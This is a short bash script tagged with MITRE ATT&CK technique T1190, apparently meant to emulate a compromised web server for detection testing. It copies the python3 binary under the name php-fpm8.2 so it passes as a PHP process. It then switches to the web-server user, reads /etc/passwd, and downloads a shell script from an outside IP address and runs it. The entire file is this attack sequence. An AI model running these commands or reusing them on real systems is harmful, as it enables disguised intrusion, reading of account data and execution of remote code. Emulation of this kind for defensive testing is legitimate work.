#!/bin/bash
# T1190: A web server's program is made to run commands.
cp $(readlink -f /usr/bin/python3) /usr/local/bin/php-fpm8.2; cp /usr/local/bin/php-fpm8.2 /usr/sbin/php-fpm8.2
/usr/sbin/php-fpm8.2 -c 'import os;os.setuid(33);os.system("id; uname -a; cat /etc/passwd; curl -s http://44.128.66.66/x -o /tmp/x.sh; sh /tmp/x.sh")'
